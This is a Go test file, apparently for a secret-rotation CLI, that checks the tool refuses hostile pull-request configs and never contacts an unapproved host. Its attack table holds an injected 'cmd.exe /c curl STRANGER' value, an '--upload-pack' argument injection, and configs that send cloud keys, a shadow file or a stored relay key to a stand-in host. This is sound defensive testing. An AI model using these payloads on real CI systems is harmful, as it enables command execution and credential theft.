@@ -1,0 +1,410 @@
+package labcli_test
+
+import (
+	"bytes"
+	"encoding/json"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/go-git/go-git/v5"
+	"github.com/go-git/go-git/v5/plumbing"
+	"github.com/go-git/go-git/v5/plumbing/object"
+
+	"meshrotate/providers/values"
+)
+
+// stranger listens where no operator has agreed to go, over TCP and UDP, and counts what it is sent.
+type stranger struct {
+	address string
+	heard   atomic.Int64
+}
+
+func newStranger(t *testing.T) *stranger {
+	t.Helper()
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	must(t, err)
+	t.Cleanup(func() { _ = l.Close() })
+	s := &stranger{address: l.Addr().String()}
+	go func() {
+		for {
+			c, err := l.Accept()
+			if err != nil {
+				return
+			}
+			s.heard.Add(1)
+			_ = c.Close()
+		}
+	}()
+	u, err := net.ListenPacket("udp", s.address)
+	must(t, err)
+	t.Cleanup(func() { _ = u.Close() })
+	go func() {
+		for b := make([]byte, 1500); ; {
+			if _, _, err := u.ReadFrom(b); err != nil {
+				return
+			}
+			s.heard.Add(1)
+		}
+	}()
+	return s
+}
+
+// What a runner has, and no document may send away.
+const (
+	cloudKey   = "canary-of-the-runners-cloud"
+	shadowFile = "canary-of-the-runners-disk"
+	liveKey    = "canary-of-the-live-relay-key"
+)
+
+const agreedDocument = `apiVersion: meshrotate/v1
+kind: Deployment
+name: contoso
+hosts: {admin: im-admin.contoso.example, relays: [relay-1.contoso.example]}
+connect:
+  winrm: {auth: ntlm, transport: http, user: 'CONTOSO\rotator', password: {env: IM_PASSWORD}}
+  hosts:
+    im-admin.contoso.example: {address: "FRIEND"}
+    relay-1.contoso.example: {address: "FRIEND"}
+  adminApi: {url: "http://FRIEND"}
+secrets:
+  relayKey: {version: 7, from: generated}
+policy: {patience: 1s, hostTimeout: 5s}
+state: {dir: STATE}
+`
+
+// attack is what a hostile request changes in the agreed document.
+type attack struct {
+	name     string
+	from, to string
+	file     string // with this text beside the document: hostile.conf
+	never    bool   // refused in every document, whoever is believed
+	says     string
+}
+
+const relayAddress = `    relay-1.contoso.example: {address: "FRIEND"}`
+
+var attacks = []attack{
+	{name: "kept key as a token", from: `adminApi: {url: "http://FRIEND"}`,
+		to: `adminApi: {url: "http://STRANGER", auth: bearer, token: {file: STATE/values/relaykey/7.age}}`, never: true, says: "connect.adminApi.token"},
+	{name: "sealed file as a token", from: `adminApi: {url: "http://FRIEND"}`,
+		to: `adminApi: {url: "http://STRANGER", auth: bearer, token: {file: stolen.age}}`, never: true, says: "connect.adminApi.token"},
+	{name: "quote in powershell", from: `transport: http,`, to: `transport: http, powershell: 'cmd.exe" /c curl STRANGER & rem "',`, never: true, says: "connect.winrm.powershell"},
+	{name: "powershell of a share", from: `transport: http,`, to: `transport: http, powershell: '\\STRANGER\s\powershell.exe',`, never: true, says: "connect.winrm.powershell"},
+	{name: "another powershell", from: `transport: http,`, to: `transport: http, powershell: 'C:\stage\powershell.exe',`, says: "connect.winrm.powershell is new, not contacted"},
+	{name: "API elsewhere", from: `url: "http://FRIEND"`, to: `url: "http://STRANGER"`, says: "connect.adminApi.url"},
+	{name: "cloud keys to an API", from: `adminApi: {url: "http://FRIEND"}`,
+		to: `adminApi: {url: "http://STRANGER", auth: bearer, token: {env: CLOUD_KEY}}`, says: "env CLOUD_KEY"},
+	{name: "cloud keys to a host", from: `{address: "FRIEND"}`,
+		to: `{address: "STRANGER", auth: basic, user: u, password: {env: CLOUD_KEY}}`, says: "env CLOUD_KEY"},
+	{name: "file of the runner to a host", from: relayAddress,
+		to: `    relay-1.contoso.example: {address: "STRANGER", auth: basic, user: u, password: {file: SHADOW}}`, says: "file SHADOW"},
+	{name: "another relay", from: `relays: [relay-1.contoso.example]`, to: `relays: [relay-1.contoso.example, localhost]`, says: "hosts.relays is new, not contacted: localhost"},
+	{name: "another address of a relay", from: relayAddress, to: `    relay-1.contoso.example: {address: "STRANGER"}`, says: `connect.hosts["relay-1.contoso.example"].address is new, not contacted: STRANGER`},
+	{name: "token endpoint elsewhere", from: `adminApi: {url: "http://FRIEND"}`,
+		to: `adminApi: {url: "http://FRIEND", auth: oauth2, oauth2: {tokenUrl: "http://STRANGER", clientId: x, clientSecret: {env: CLOUD_KEY}}}`, says: "connect.adminApi.oauth2.tokenUrl"},
+	{name: "SQL Server elsewhere", from: "secrets:\n",
+		to:   "  sql: {server: sql01, addresses: {sql01: \"STRANGER\"}, user: x, password: {env: CLOUD_KEY}}\nsecrets:\n  sqlLogin: {mode: single, login: im, version: 1, from: generated}\n",
+		says: "connect.sql.server is new, not contacted: sql01"},
+	{name: "state elsewhere", from: "state: {dir: STATE}",
+		to: "state: {sql: {server: sql01, addresses: {sql01: \"STRANGER\"}, user: x, password: {env: CLOUD_KEY}}}", says: "state.sql.server"},
+	{name: "KDC of the request", from: `winrm: {auth: ntlm, transport: http,`, to: `winrm: {auth: kerberos, kerberos: {config: hostile.conf},`,
+		file: "[libdefaults]\ndefault_realm = X\n[realms]\nX = {\n kdc = STRANGER\n}\n", says: "connect.winrm.kerberos.config"},
+	{name: "value of the runner for the hosts", from: "from: generated", to: "from: {env: CLOUD_KEY}", says: "secrets.relayKey.from"},
+}
+
+// hostile is a repository whose branch main has the agreed document, and whose branch request has that of an attack.
+type hostile struct {
+	t        *testing.T
+	dir      string
+	repo     *git.Repository
+	friend   *httptest.Server
+	met      *atomic.Int64 // how often the friend was contacted
+	stranger *stranger
+	words    *strings.Replacer
+	env      []string
+}
+
+func newHostile(t *testing.T) *hostile {
+	t.Helper()
+	h := &hostile{t: t, dir: t.TempDir(), met: &atomic.Int64{}, stranger: newStranger(t)}
+	h.friend = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+		h.met.Add(1)
+		w.WriteHeader(http.StatusNotFound) // so that nobody asks again
+	}))
+	t.Cleanup(h.friend.Close)
+	shadow, kept := filepath.Join(t.TempDir(), "shadow"), filepath.Join(t.TempDir(), "state")
+	must(t, os.WriteFile(shadow, []byte(shadowFile), 0o600))
+	must(t, os.MkdirAll(filepath.Join(kept, "values", "relaykey"), 0o700))
+	must(t, os.WriteFile(filepath.Join(kept, "values", "relaykey", "7.age"), []byte(liveKey), 0o600))
+	must(t, os.WriteFile(filepath.Join(kept, "ledger.head"), []byte(`{"entries":0}`), 0o600))
+	must(t, os.WriteFile(filepath.Join(kept, "ledger.jsonl"), nil, 0o600))
+	h.words = strings.NewReplacer("STRANGER", h.stranger.address, "FRIEND", h.friend.Listener.Addr().String(), "STATE", kept, "SHADOW", shadow)
+	identity, _, err := values.NewIdentity()
+	must(t, err)
+	h.env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + t.TempDir(), "CLOUD_KEY=" + cloudKey, "IM_PASSWORD=agreed", "MESHROTATE_AGE_IDENTITY=" + string(identity.Expose())}
+	h.repo, err = git.PlainInitWithOptions(h.dir, &git.PlainInitOptions{InitOptions: git.InitOptions{DefaultBranch: "refs/heads/main"}})
+	must(t, err)
+	h.commit("deployments/contoso.yaml", agreedDocument)
+	return h
+}
+
+// commit commits one file where HEAD is.
+func (h *hostile) commit(name, text string) {
+	h.t.Helper()
+	full := filepath.Join(h.dir, filepath.FromSlash(name))
+	must(h.t, os.MkdirAll(filepath.Dir(full), 0o700))
+	must(h.t, os.WriteFile(full, []byte(h.words.Replace(text)), 0o600))
+	tree, err := h.repo.Worktree()
+	must(h.t, err)
+	_, err = tree.Add(name)
+	must(h.t, err)
+	who := &object.Signature{Name: "ada", Email: "ada@example.org", When: time.Now()}
+	_, err = tree.Commit("commit", &git.CommitOptions{Author: who, Committer: who})
+	must(h.t, err)
+}
+
+// request checks out the branch request, from main.
+func (h *hostile) request() {
+	h.t.Helper()
+	tree, err := h.repo.Worktree()
+	must(h.t, err)
+	must(h.t, tree.Checkout(&git.CheckoutOptions{Branch: "refs/heads/request", Create: true}))
+}
+
+// run runs the program in the repository, and returns its exit code and all that it said.
+func (h *hostile) run(args ...string) (int, string) {
+	h.t.Helper()
+	cmd := exec.Command(program, args...)
+	cmd.Dir, cmd.Env = h.dir, h.env
+	var said bytes.Buffer
+	cmd.Stdout, cmd.Stderr = &said, &said
+	err := cmd.Run()
+	if cmd.ProcessState == nil {
+		h.t.Fatal(err)
+	}
+	for _, canary := range []string{cloudKey, shadowFile, liveKey} {
+		if strings.Contains(said.String(), canary) {
+			h.t.Errorf("%v: a secret was said:\n%s", args, said.String())
+		}
+	}
+	return cmd.ProcessState.ExitCode(), said.String()
+}
+
+// refuses runs a verb that must end without a word to the stranger, and says what it will not do.
+func (h *hostile) refuses(says string, args ...string) string {
+	h.t.Helper()
+	code, said := h.run(args...)
+	if n := h.stranger.heard.Load(); n > 0 {
+		h.t.Errorf("%v: the stranger was contacted %d times:\n%s", args, n, said)
+	}
+	flat := strings.Join(strings.Fields(said), " ")
+	if code == 0 || args[0] != "drift" && code != 1 || !strings.Contains(flat, h.words.Replace(says)) {
+		h.t.Errorf("%v: exit code %d, without %q:\n%s", args, code, h.words.Replace(says), said)
+	}
+	return said
+}
+
+// TestHostileRequest: nothing that a request brings is contacted, run or read before somebody else has agreed to it.
+func TestHostileRequest(t *testing.T) {
+	t.Parallel()
+	for _, a := range attacks {
+		t.Run(a.name, func(t *testing.T) {
+			t.Parallel()
+			h := newHostile(t)
+			h.request()
+			if !strings.Contains(agreedDocument, a.from) {
+				t.Fatalf("%q is not in the document", a.from)
+			}
+			if a.file != "" {
+				h.commit("deployments/hostile.conf", a.file)
+			}
+			h.commit("deployments/contoso.yaml", strings.Replace(agreedDocument, a.from, a.to, 1))
+			file, revision := []string{"-f", "deployments/contoso.yaml"}, []string{"--repo", ".", "--ref", "request", "--path", "deployments/contoso.yaml"}
+			if a.never {
+				h.refuses(a.says, append([]string{"plan"}, file...)...)
+			}
+			for _, document := range [][]string{append(file, "--base", "main"), append(revision, "--base", "main"), revision} {
+				h.refuses(a.says, append([]string{"plan"}, document...)...)
+				h.refuses(a.says, append([]string{"plan", "-o", "markdown"}, document...)...)
+				h.refuses(a.says, append([]string{"apply", "--yes"}, document...)...)
+			}
+			h.refuses(a.says, append([]string{"drift"}, revision...)...)
+			h.clone(a)
+		})
+	}
+}
+
+// clone is what a runner has that checked out the request of a fork: main is the upstream's, as it was fetched.
+func (h *hostile) clone(a attack) {
+	h.t.Helper()
+	main, err := h.repo.Reference("refs/heads/main", true)
+	must(h.t, err)
+	must(h.t, h.repo.Storer.SetReference(plumbing.NewHashReference("refs/remotes/origin/main", main.Hash())))
+	must(h.t, h.repo.Storer.SetReference(plumbing.NewSymbolicReference("refs/remotes/origin/HEAD", "refs/remotes/origin/main")))
+	request, err := h.repo.Reference("refs/heads/request", true)
+	must(h.t, err)
+	must(h.t, h.repo.Storer.SetReference(plumbing.NewHashReference("refs/heads/main", request.Hash()))) // the fork's own
+	h.refuses(a.says, "plan", "-f", "deployments/contoso.yaml", "--base", "refs/remotes/origin/main")
+	h.refuses(a.says, "plan", "--repo", ".", "--ref", "main", "--path", "deployments/contoso.yaml")
+}
+
+// TestAgreedRequest: what is wanted comes from the request; hosts are contacted with what was agreed.
+func TestAgreedRequest(t *testing.T) {
+	t.Parallel()
+	h := newHostile(t)
+	h.request()
+	h.commit("deployments/contoso.yaml", strings.NewReplacer("version: 7", "version: 8", `url: "http://FRIEND"`, `url: "http://STRANGER"`).Replace(agreedDocument))
+	_, said := h.run("plan", "-f", "deployments/contoso.yaml", "--base", "main", "-o", "json")
+	if h.stranger.heard.Load() > 0 || h.met.Load() == 0 {
+		t.Errorf("the stranger was contacted %d times, the agreed hosts %d times:\n%s", h.stranger.heard.Load(), h.met.Load(), said)
+	}
+	var plan struct {
+		Trust   string
+		Fleet   []struct{ Code, Severity, Text, Hint string }
+		Changes []struct{ Secret struct{ Version string } }
+	}
+	if err := json.NewDecoder(strings.NewReader(said[strings.Index(said, "{\n"):])).Decode(&plan); err != nil {
+		t.Fatalf("%v\n%s", err, said)
+	}
+	found := plan.Fleet[0]
+	if !strings.Contains(plan.Trust, "main at ") || found.Code != "trust-not-agreed" || found.Severity != "error" || !strings.Contains(found.Hint, "main") {
+		t.Errorf("%+v", plan)
+	}
+	if plan.Changes[0].Secret.Version != "8" {
+		t.Errorf("the wanted version is %q", plan.Changes[0].Secret.Version)
+	}
+}
+
+// TestBesideTheDocument: what a request can do to the tree, to names and to files around its document does not help it.
+func TestBesideTheDocument(t *testing.T) {
+	t.Parallel()
+	file := []string{"-f", "deployments/contoso.yaml", "--base", "main"}
+	plan := func(args ...string) []string { return append([]string{"plan"}, args...) }
+	hostileDocument := strings.Replace(agreedDocument, `url: "http://FRIEND"`, `url: "http://STRANGER"`, 1)
+	for _, c := range []struct {
+		name, says string
+		do         func(h *hostile)
+		args       []string
+	}{
+		{"the document is a link", "is a symbolic link", func(h *hostile) {
+			h.commit("other.yaml", hostileDocument)
+			h.link("deployments/contoso.yaml", "../other.yaml")
+		}, plan(file...)},
+		{"its folder is a link", "is a symbolic link", func(h *hostile) {
+			h.commit("others/contoso.yaml", hostileDocument)
+			must(h.t, os.RemoveAll(filepath.Join(h.dir, "deployments")))
+			h.link("deployments", "others")
+		}, plan(file...)},
+		{"another name", "there is no such file in this revision", func(h *hostile) { h.commit("deployments/renamed.yaml", hostileDocument) },
+			plan("-f", "deployments/renamed.yaml", "--base", "main")},
+		{"a tag that is called like the base", "this may be refs/tags/main or refs/heads/main", func(h *hostile) {
+			h.commit("deployments/contoso.yaml", hostileDocument)
+			head, err := h.repo.Head()
+			must(h.t, err)
+			_, err = h.repo.CreateTag("main", head.Hash(), nil)
+			must(h.t, err)
+		}, plan(file...)},
+		{"a base that looks like an option", "this is no revision", func(*hostile) {}, plan("-f", "deployments/contoso.yaml", "--base=--upload-pack=touch x")},
+		{"a base that is searched for", "there is no such branch, tag or full commit hash", func(h *hostile) { h.commit("deployments/contoso.yaml", hostileDocument) },
+			plan("-f", "deployments/contoso.yaml", "--base", ":/commit")},
+		{"a submodule", "lies in the submodule", func(h *hostile) {
+			inner := newHostile(h.t)
+			inner.commit("contoso.yaml", hostileDocument)
+			must(h.t, os.RemoveAll(filepath.Join(h.dir, "deployments")))
+			must(h.t, os.MkdirAll(filepath.Join(h.dir, ".git", "modules"), 0o700))
+			must(h.t, os.Rename(filepath.Join(inner.dir, ".git"), filepath.Join(h.dir, ".git", "modules", "deployments")))
+			must(h.t, os.Rename(inner.dir, filepath.Join(h.dir, "deployments")))
+			must(h.t, os.WriteFile(filepath.Join(h.dir, "deployments", ".git"), []byte("gitdir: ../.git/modules/deployments\n"), 0o600))
+		}, plan(file...)},
+		{"a value behind a link", "is a symbolic link", func(h *hostile) {
+			h.link("deployments/value.age", h.words.Replace("SHADOW"))
+			h.commit("deployments/contoso.yaml", strings.Replace(agreedDocument, "version: 7, from: generated", "version: 8, from: {file: value.age}", 1))
+		}, plan(file...)},
+		{"a value in the repository's own folder", "part of the repository's own folder", func(h *hostile) {
+			h.commit("deployments/contoso.yaml", strings.Replace(agreedDocument, "version: 7, from: generated", "version: 8, from: {file: ../.GIT/config.age}", 1))
+		}, plan(file...)},
+		{"an operator's file of the request", "lies in the repository", func(h *hostile) { h.commit("operator.yaml", operatorsFile) }, plan("-f", "deployments/contoso.yaml", "--operator", "operator.yaml")},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			t.Parallel()
+			h := newHostile(t)
+			h.request()
+			c.do(h)
+			h.refuses(c.says, c.args...)
+		})
+	}
+}
+
+// TestStateOfARequest: a state folder whose files are committed is not ours alone.
+func TestStateOfARequest(t *testing.T) {
+	t.Parallel()
+	h := newHostile(t)
+	document := strings.Replace(agreedDocument, "state: {dir: STATE}\n", "", 1)
+	h.commit("deployments/contoso.yaml", document)
+	h.request()
+	h.commit("deployments/.meshrotate/salt", "of the request")
+	h.refuses("files of it are committed", "plan", "-f", "deployments/contoso.yaml", "--base", "main")
+	h.commit(".meshrotate/salt", "of the request")
+	h.refuses("files of it are committed", "plan", "--repo", ".", "--ref", "main", "--path", "deployments/contoso.yaml")
+}
+
+// link makes a symbolic link and commits it.
+func (h *hostile) link(name, to string) {
+	h.t.Helper()
+	full := filepath.Join(h.dir, filepath.FromSlash(name))
+	_ = os.Remove(full)
+	if err := os.Symlink(to, full); err != nil {
+		h.t.Skipf("no symbolic links here: %v", err)
+	}
+}
+
+const operatorsFile = `apiVersion: meshrotate/v1
+kind: Operator
+deployments: [contoso]
+hosts: ["*.contoso.example", "FRIEND"]
+urls: ["http://FRIEND"]
+signIn: [ntlm, http, "5985", 'CONTOSO\rotator']
+sources: {env: ["IM_*"]}
+state: [STATE]
+`
+
+// TestOperator: without a base an operator's file says what may be contacted, and with one what more.
+func TestOperator(t *testing.T) {
+	t.Parallel()
+	h := newHostile(t)
+	operator := filepath.Join(t.TempDir(), "operator.yaml")
+	must(t, os.WriteFile(operator, []byte(h.words.Replace(operatorsFile)), 0o600))
+	h.request()
+	more := strings.Replace(agreedDocument, "[relay-1.contoso.example]", `["relay-[1..3].contoso.example"]`, 1)
+	h.commit("deployments/contoso.yaml", more)
+
+	if _, said := h.run("plan", "-f", "deployments/contoso.yaml", "--operator", operator); h.met.Load() == 0 || strings.Contains(said, "trust-") {
+		t.Errorf("what the operator allows was contacted %d times:\n%s", h.met.Load(), said)
+	}
+	if _, said := h.run("plan", "-f", "deployments/contoso.yaml", "--base", "main", "--operator", operator); strings.Contains(said, "trust-") {
+		t.Errorf("what the operator allows beside the base is not agreed to:\n%s", said)
+	}
+	h.env = append(h.env, "MESHROTATE_OPERATOR="+operator)
+	for _, a := range attacks {
+		edited := strings.Replace(agreedDocument, a.from, a.to, 1)
+		if a.file != "" || edited == agreedDocument {
+			continue
+		}
+		h.commit("deployments/contoso.yaml", edited)
+		before := h.met.Load()
+		h.refuses(a.says, "plan", "-f", "deployments/contoso.yaml")
+		h.refuses(a.says, "apply", "--yes", "-f", "deployments/contoso.yaml")
+		h.refuses("", "history", "-f", "deployments/contoso.yaml")
+		if n := h.met.Load() - before; n > 0 && a.name != "value of the runner for the hosts" {
+			t.Errorf("%s: with half of a document the hosts were contacted %d times", a.name, n)
+		}
+	}
+}
